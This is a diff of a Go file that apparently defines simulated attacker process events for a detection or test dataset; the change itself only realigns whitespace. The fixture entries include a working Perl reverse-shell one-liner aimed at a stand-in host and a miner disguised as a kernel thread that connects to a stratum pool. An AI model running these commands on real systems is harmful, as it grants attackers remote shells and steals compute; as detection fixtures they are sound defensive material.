@@ -138,7 +138,7 @@ func Default() Spec {
 				Args: []string{"kworkerds", "-o", "stratum+tcp://45.9.148.99:3333"}, Comment: "miner named like a kernel thread"},
 			{At: start.Add(58*time.Hour + 41*time.Minute), Name: "perl", Host: "web-01", User: "www-data",
 				DestIP: "198.51.100.23", Port: 4444, Exe: "/usr/bin/perl", Cwd: "/var/www/html", Events: 1,
-				Args: []string{"perl", "-e", "use Socket;$i=\"198.51.100.23\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)))"},
+				Args:    []string{"perl", "-e", "use Socket;$i=\"198.51.100.23\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)))"},
 				Comment: "perl reverse shell"},
 			{At: start.Add(66*time.Hour + 2*time.Minute), Name: "bash", Host: "web-02", User: "www-data",
 				DestIP: "203.0.113.77", Port: 443, Exe: "/usr/bin/bash", Cwd: "/var/www/html/uploads", Events: 2,
